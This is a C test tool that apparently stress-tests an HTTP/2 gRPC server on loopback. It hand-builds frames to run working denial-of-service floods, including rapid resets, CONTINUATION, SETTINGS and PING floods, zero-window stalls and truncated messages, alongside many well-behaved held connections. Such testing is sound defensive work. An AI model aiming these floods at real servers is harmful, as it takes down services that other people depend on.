/* SPDX-License-Identifier: Apache-2.0 */
/*
 * HTTP/2 clients as experiments need them in numbers: thousands that hold connections or streams
 * and behave, and those that mean harm, each attack again and again on new connections, as fast as
 * it goes. Frames are made by hand, for libraries refuse to make most of them.
 *
 * h2_hostile --port P --attack NAME [--count N] [--seconds S] [--turns N] [--rate R] [--key K]
 *            [--path /own.Service/Method --app-id ID]
 *
 * `connections` and `streams` say "ready", answer pings until their input ends, and then tell how
 * many have been kept. Everything else runs for so many seconds or turns, a connection each, as
 * fast as it goes or at so many a second. One line of JSON at the end.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/clock.h"
#include "base/slice.h"

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

enum {
    HEAD_BYTES = 9,
    OUT_BYTES_MAX = 4 * 1024 * 1024,
    BATCH_BYTES = 64 * 1024,
    FRAME_BYTES_MAX = 16384,
    PACE_LAG_NS = 100 * 1000 * 1000,
    DATA = 0,
    HEADERS = 1,
    RST_STREAM = 3,
    SETTINGS = 4,
    PING = 6,
    CONTINUATION = 9,
    END_STREAM = 1, /* flags */
    ACK = 1,
    END_HEADERS = 4,
};

static struct {
    uint64_t port, count, seconds, turns, rate;
    const char *attack, *key, *path, *app_id;
} options = { .count = 1000,
              .seconds = 1,
              .turns = UINT64_MAX,
              .key = "k",
              .path = "/dapr.proto.runtime.v1.Dapr/GetState" };

static uint64_t frames, opened, cut, answers;

__attribute__((noreturn)) static void
die(const char *what)
{
    fprintf(stderr, "h2_hostile: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* --- frames ------------------------------------------------------------------------------------*/

static void
put(struct buf *out, struct slice bytes)
{
    if (!buf_append(out, bytes))
        die("output");
}

static void
put_frame(struct buf *out, unsigned type, unsigned flags, uint32_t id, struct slice payload)
{
    const char head[HEAD_BYTES] = {
        (char)(payload.len >> 16),
        (char)(payload.len >> 8),
        (char)payload.len,
        (char)type,
        (char)flags,
        (char)(id >> 24),
        (char)(id >> 16),
        (char)(id >> 8),
        (char)id,
    };
    put(out, slice_of(head, sizeof head));
    put(out, payload);
    frames++;
}

/* A literal header that goes into no table. */
static void
put_header(struct buf *out, const char *name, const char *value)
{
    size_t name_len = strlen(name), value_len = strlen(value);
    const char lens[] = { 0, (char)name_len, (char)value_len };
    put(out, slice_of(lens, 2));
    put(out, slice_str(name));
    put(out, slice_of(lens + 2, 1));
    put(out, slice_str(value));
}

/* The head of a GetState call, or of one to be proxied; all texts shorter than 127 bytes. */
static struct slice
call_head(void)
{
    static struct buf head;
    if (head.max == 0) {
        buf_init(&head, FRAME_BYTES_MAX);
        put_header(&head, ":method", "POST");
        put_header(&head, ":scheme", "http");
        put_header(&head, ":path", options.path);
        put_header(&head, ":authority", "x");
        put_header(&head, "content-type", "application/grpc");
        put_header(&head, "te", "trailers");
        if (options.app_id != NULL)
            put_header(&head, "dapr-app-id", options.app_id);
    }
    return buf_slice(&head);
}

/* GetStateRequest { store_name = 1, key = 2 } behind its prefix. */
static struct slice
call_message(void)
{
    static char message[256];
    static size_t len;
    if (len == 0) {
        size_t key = strlen(options.key);
        len = (size_t)snprintf(message, sizeof message, "%c%c%c%c%c\x0a\x05store\x12%c%s", 0, 0, 0,
                               0, (int)(9 + key), (int)key, options.key);
    }
    return slice_of(message, len);
}

static void
put_greeting(struct buf *out, struct slice settings)
{
    put(out, slice_of(PREFACE, sizeof PREFACE - 1));
    put_frame(out, SETTINGS, 0, 0, settings);
}

/* --- sockets -----------------------------------------------------------------------------------*/

static int
dial(void)
{
    const struct sockaddr_in address = { .sin_family = AF_INET,
                                         .sin_port = htons((uint16_t)options.port),
                                         .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const int on = 1;
    if (fd < 0 || connect(fd, (const struct sockaddr *)&address, sizeof address) != 0)
        die("connect");
    (void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    opened++;
    return fd;
}

/* What has come is thrown away. False: the server has closed. */
static bool
discard(int fd)
{
    static char in[256 * 1024];
    ssize_t got;
    do
        got = recv(fd, in, sizeof in, MSG_DONTWAIT);
    while (got > 0);
    return got < 0 && errno == EAGAIN;
}

/* Sends all of it, throwing away what comes unless it is not to be read. False: cut off. */
static bool
flood(int fd, struct buf *out, bool reads)
{
    uint64_t until_ms = clock_now_ms() + 2000;
    while (out->len > 0) {
        ssize_t sent = send(fd, out->data + out->start, out->len, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (sent < 0 && errno != EAGAIN)
            return false;
        if (sent > 0)
            buf_consume(out, (size_t)sent);
        if (reads && !discard(fd))
            return false;
        if (sent > 0)
            continue;
        if (clock_now_ms() > until_ms)
            return true; /* it reads no more of this, which is as good */
        struct pollfd ready = { .fd = fd, .events = POLLOUT };
        (void)poll(&ready, 1, 10);
    }
    return true;
}

/* Whether the server closes soon after the last of a flood. */
static bool
is_cut(int fd, int patience_ms)
{
    uint64_t until_ms = clock_now_ms() + (uint64_t)patience_ms;
    while (clock_now_ms() < until_ms) {
        struct pollfd ready = { .fd = fd, .events = POLLIN };
        (void)poll(&ready, 1, 10);
        if (!discard(fd))
            return true;
    }
    return false;
}

static void
leave(int fd, bool abruptly)
{
    const struct linger linger = { .l_onoff = abruptly };
    (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    (void)close(fd);
}

/* --- attacks: one connection each --------------------------------------------------------------*/

/* A piece of a flood from stream `id` on; returns the next id. */
typedef uint32_t flood_fn(struct buf *out, uint32_t id);

static uint32_t
resets(struct buf *out, uint32_t id)
{
    put_frame(out, HEADERS, END_HEADERS | END_STREAM, id, call_head());
    put_frame(out, RST_STREAM, 0, id, slice_of("\0\0\0\x08", 4));
    return id + 2;
}

static uint32_t
continuations(struct buf *out, uint32_t id)
{
    if (id == 1)
        put_frame(out, HEADERS, 0, id, call_head());
    put_frame(out, CONTINUATION, 0, 1, slice_of("\0\1y\1z", 5));
    return id + 2;
}

static uint32_t
settings(struct buf *out, uint32_t id)
{
    put_frame(out, SETTINGS, 0, 0, SLICE_EMPTY);
    return id + 2;
}

static uint32_t
pings(struct buf *out, uint32_t id)
{
    put_frame(out, PING, 0, 0, SLICE("12345678"));
    return id + 2;
}

static uint32_t
empty_data(struct buf *out, uint32_t id)
{
    if (id == 1)
        put_frame(out, HEADERS, END_HEADERS, id, call_head());
    put_frame(out, DATA, 0, 1, SLICE_EMPTY);
    return id + 2;
}

static void
run_flood(flood_fn *piece, uint64_t until_ms)
{
    struct buf out;
    int fd = dial();
    bool is_open = true;
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, SLICE_EMPTY);
    for (uint32_t id = 1; is_open && id < 0x7fff0000 && clock_now_ms() < until_ms;) {
        while (out.len < BATCH_BYTES)
            id = piece(&out, id);
        is_open = flood(fd, &out, true);
    }
    cut += !is_open || is_cut(fd, 2000);
    leave(fd, false);
    buf_fini(&out);
}

/* Asks for much and takes nothing of it. */
static void
zero_window(uint64_t until_ms)
{
    struct buf out;
    int fd = dial();
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, slice_of("\0\4\0\0\0\0", 6));
    for (uint32_t i = 0; i < options.count; i++) {
        put_frame(&out, HEADERS, END_HEADERS, 2 * i + 1, call_head());
        put_frame(&out, DATA, END_STREAM, 2 * i + 1, call_message());
    }
    bool is_open = flood(fd, &out, true);
    while (is_open && clock_now_ms() < until_ms)
        is_open = !is_cut(fd, 50);
    cut += !is_open;
    leave(fd, false);
    buf_fini(&out);
}

/* Takes back each of its calls as soon as some more are made, and says so each time, as a client
 * whose users are impatient does. A connection makes so many that no limit of resets is near. */
static void
polite(uint64_t until_ms)
{
    enum { UNDER_WAY = 16 };
    struct buf out;
    int fd = dial();
    bool is_open = true;
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, SLICE_EMPTY);
    for (uint32_t i = 0; is_open && i < options.count && clock_now_ms() < until_ms; i++) {
        put_frame(&out, HEADERS, END_HEADERS, 2 * i + 1, call_head());
        put_frame(&out, DATA, END_STREAM, 2 * i + 1, call_message());
        if (i >= UNDER_WAY)
            put_frame(&out, RST_STREAM, 0, 2 * (i - UNDER_WAY) + 1, slice_of("\0\0\0\x08", 4));
        is_open = i % UNDER_WAY != 0 || flood(fd, &out, true);
    }
    is_open = is_open && flood(fd, &out, true);
    cut += !is_open;
    leave(fd, false);
    buf_fini(&out);
}

/* Goes in the middle of something, without a word. */
static void
vanish(unsigned turn)
{
    struct buf out;
    int fd = dial();
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, SLICE_EMPTY);
    for (uint32_t i = 0; i < 20; i++) {
        put_frame(&out, HEADERS, END_HEADERS, 2 * i + 1, call_head());
        put_frame(&out, DATA, END_STREAM, 2 * i + 1, call_message());
    }
    out.len -= out.len * (turn % 4) / 8;
    (void)flood(fd, &out, false); /* whether it is taken does not matter */
    leave(fd, turn % 2 == 0);
    buf_fini(&out);
}

/* Messages that end too soon, and ones that are announced as very long. */
static void
truncated(unsigned turn)
{
    struct buf out;
    int fd = dial();
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, SLICE_EMPTY);
    for (uint32_t i = 0; i < 100; i++) {
        put_frame(&out, HEADERS, END_HEADERS, 2 * i + 1, call_head());
        struct slice message = call_message();
        if ((i + turn) % 2 == 0)
            put_frame(&out, DATA, END_STREAM, 2 * i + 1, slice_first(message, 5 + i % 5));
        else
            put_frame(&out, DATA, END_STREAM, 2 * i + 1, slice_of("\0\xff\xff\xff\xff\x0a\x05", 7));
    }
    cut += !flood(fd, &out, true);
    (void)is_cut(fd, 5);
    leave(fd, false);
    buf_fini(&out);
}

/* --- many that behave --------------------------------------------------------------------------*/

struct peer {
    int fd;
    struct buf in;
    bool is_gone;
};

/* Takes whole frames; answers settings and pings. */
static void
take_frames(struct peer *peer)
{
    struct buf out;
    buf_init(&out, OUT_BYTES_MAX);
    while (peer->in.len >= HEAD_BYTES) {
        struct slice in = buf_slice(&peer->in);
        const unsigned char *head = (const unsigned char *)in.data;
        size_t len = (size_t)head[0] << 16 | (size_t)head[1] << 8 | head[2];
        if (in.len < HEAD_BYTES + len)
            break;
        if (head[3] == SETTINGS && (head[4] & ACK) == 0)
            put_frame(&out, SETTINGS, ACK, 0, SLICE_EMPTY);
        if (head[3] == PING && (head[4] & ACK) == 0)
            put_frame(&out, PING, ACK, 0, slice_of(in.data + HEAD_BYTES, len));
        answers += (head[3] == HEADERS || head[3] == DATA) && (head[4] & END_STREAM) != 0;
        buf_consume(&peer->in, HEAD_BYTES + len);
    }
    peer->is_gone |= !flood(peer->fd, &out, false);
    buf_fini(&out);
    buf_release(&peer->in);
}

static void
on_readable(struct peer *peer)
{
    char *at = buf_reserve(&peer->in, BATCH_BYTES);
    if (at == NULL)
        die("input");
    ssize_t got = recv(peer->fd, at, BATCH_BYTES, MSG_DONTWAIT);
    if (got > 0) {
        buf_commit(&peer->in, (size_t)got);
        take_frames(peer);
    } else if (got == 0 || errno != EAGAIN) {
        peer->is_gone = true;
    }
}

/* Until `answers` has come to that, or input has ended. */
static void
serve(int epoll, uint64_t wanted_answers)
{
    bool has_input = true;
    uint64_t until_ms = clock_now_ms() + 60000;
    while (has_input && answers < wanted_answers && clock_now_ms() < until_ms) {
        struct epoll_event events[256];
        int count = epoll_wait(epoll, events, 256, 100);
        for (int i = 0; i < count; i++) {
            struct peer *peer = events[i].data.ptr;
            if (peer == NULL)
                has_input = false;
            else
                on_readable(peer);
            if (peer != NULL && peer->is_gone)
                (void)epoll_ctl(epoll, EPOLL_CTL_DEL, peer->fd, NULL);
        }
    }
}

static struct peer *
open_peer(int epoll, struct peer *peer)
{
    struct buf out;
    peer->fd = dial();
    buf_init(&peer->in, OUT_BYTES_MAX);
    buf_init(&out, OUT_BYTES_MAX);
    put_greeting(&out, SLICE_EMPTY);
    (void)flood(peer->fd, &out, false); /* a new connection takes that much */
    buf_fini(&out);
    struct epoll_event event = { .events = EPOLLIN, .data.ptr = peer };
    if (epoll_ctl(epoll, EPOLL_CTL_ADD, peer->fd, &event) != 0)
        die("epoll");
    return peer;
}

static void
call_all(struct peer *peer, uint64_t count, bool has_message)
{
    struct buf out;
    buf_init(&out, OUT_BYTES_MAX);
    for (uint32_t i = 0; i < count; i++) {
        put_frame(&out, HEADERS, END_HEADERS, 2 * i + 1, call_head());
        if (has_message)
            put_frame(&out, DATA, END_STREAM, 2 * i + 1, call_message());
    }
    (void)flood(peer->fd, &out, false); /* who is gone is counted at the end */
    buf_fini(&out);
}

static void
finish_all(struct peer *peer, uint64_t count)
{
    struct buf out;
    buf_init(&out, OUT_BYTES_MAX);
    for (uint32_t i = 0; i < count; i++)
        put_frame(&out, DATA, END_STREAM, 2 * i + 1, call_message());
    (void)flood(peer->fd, &out, false); /* who is gone is counted at the end */
    buf_fini(&out);
}

static void
say_ready(int epoll)
{
    struct epoll_event event = { .events = EPOLLIN | EPOLLHUP, .data.ptr = NULL };
    printf("ready\n");
    (void)fflush(stdout);
    if (epoll_ctl(epoll, EPOLL_CTL_ADD, STDIN_FILENO, &event) != 0)
        die("epoll");
    serve(epoll, UINT64_MAX);
    (void)epoll_ctl(epoll, EPOLL_CTL_DEL, STDIN_FILENO, NULL);
}

/* Each has made a call and goes on to be there. */
static void
hold_connections(int epoll)
{
    struct peer *peers = calloc(options.count, sizeof *peers);
    if (peers == NULL)
        die("memory");
    for (uint64_t i = 0; i < options.count; i++) {
        call_all(open_peer(epoll, &peers[i]), 1, true);
        if (i % 64 == 63)
            serve(epoll, i - 32); /* no more at a time than a listener's queue takes */
    }
    serve(epoll, options.count);
    say_ready(epoll);
    for (uint64_t i = 0; i < options.count; i++)
        cut += peers[i].is_gone;
    free(peers);
}

/* Requests that have begun; they are finished in the end, and get their answers. */
static void
hold_streams(int epoll)
{
    struct peer peer = { 0 };
    (void)open_peer(epoll, &peer);
    call_all(&peer, options.count, false);
    say_ready(epoll);
    finish_all(&peer, options.count);
    serve(epoll, options.count);
    cut += peer.is_gone;
}

/* --- start -------------------------------------------------------------------------------------*/

/* A pace, not a promise: what was missed while we did not run is not made up for in a rush. */
static void
keep_pace(void)
{
    static uint64_t next_ns;
    uint64_t now_ns = clock_now_ns(), step_ns = UINT64_C(1000000000) / options.rate;
    if (now_ns < next_ns)
        (void)usleep((useconds_t)((next_ns - now_ns) / 1000));
    else if (now_ns - next_ns > PACE_LAG_NS)
        next_ns = now_ns;
    next_ns += step_ns;
}

static void
run(void)
{
    static const struct {
        const char *name;
        flood_fn *piece;
    } floods[] = { { "resets", resets },
                   { "continuations", continuations },
                   { "settings", settings },
                   { "pings", pings },
                   { "empty-data", empty_data } };
    uint64_t until_ms = clock_now_ms() + options.seconds * 1000;
    struct slice attack = slice_str(options.attack);
    bool is_known = false;
    for (unsigned turn = 0; clock_now_ms() < until_ms && turn < options.turns; turn++) {
        if (options.rate > 0)
            keep_pace();
        for (size_t i = 0; i < sizeof floods / sizeof *floods; i++) {
            if (!slice_eq(attack, slice_str(floods[i].name)))
                continue;
            run_flood(floods[i].piece, until_ms);
            is_known = true;
        }
        if (slice_eq(attack, SLICE("zero-window")))
            zero_window(until_ms);
        else if (slice_eq(attack, SLICE("polite")))
            polite(until_ms);
        else if (slice_eq(attack, SLICE("vanish")))
            vanish(turn);
        else if (slice_eq(attack, SLICE("truncated")))
            truncated(turn);
        else if (!is_known)
            die("no such attack");
    }
}

static void
read_options(int argc, char **argv)
{
    for (int i = 1; i + 1 < argc; i += 2) {
        struct slice name = slice_str(argv[i]), value = slice_str(argv[i + 1]);
        bool ok = true;
        if (slice_eq(name, SLICE("--port")))
            ok = slice_to_u64(value, &options.port);
        else if (slice_eq(name, SLICE("--count")))
            ok = slice_to_u64(value, &options.count);
        else if (slice_eq(name, SLICE("--seconds")))
            ok = slice_to_u64(value, &options.seconds);
        else if (slice_eq(name, SLICE("--turns")))
            ok = slice_to_u64(value, &options.turns);
        else if (slice_eq(name, SLICE("--rate")))
            ok = slice_to_u64(value, &options.rate);
        else if (slice_eq(name, SLICE("--attack")))
            options.attack = argv[i + 1];
        else if (slice_eq(name, SLICE("--key")))
            ok = (options.key = argv[i + 1]) != NULL && value.len < 100;
        else if (slice_eq(name, SLICE("--path")))
            ok = (options.path = argv[i + 1]) != NULL && value.len < 100;
        else if (slice_eq(name, SLICE("--app-id")))
            ok = (options.app_id = argv[i + 1]) != NULL && value.len < 100;
        else
            ok = false;
        if (!ok) {
            fprintf(stderr, "h2_hostile: %s: no such option, or no good value\n", argv[i]);
            exit(2);
        }
    }
    if (options.port == 0 || options.attack == NULL) {
        fprintf(stderr, "h2_hostile: --port and --attack are needed\n");
        exit(2);
    }
}

int
main(int argc, char **argv)
{
    read_options(argc, argv);
    int epoll = epoll_create1(EPOLL_CLOEXEC);
    uint64_t began_ns = clock_now_ns();
    if (strcmp(options.attack, "connections") == 0)
        hold_connections(epoll);
    else if (strcmp(options.attack, "streams") == 0)
        hold_streams(epoll);
    else
        run();
    printf("{\"frames\":%lu,\"opened\":%lu,\"cut\":%lu,\"answers\":%lu,\"seconds\":%.3f}\n", frames,
           opened, cut, answers, (double)(clock_now_ns() - began_ns) / 1e9);
    (void)close(epoll);
    return 0;
}
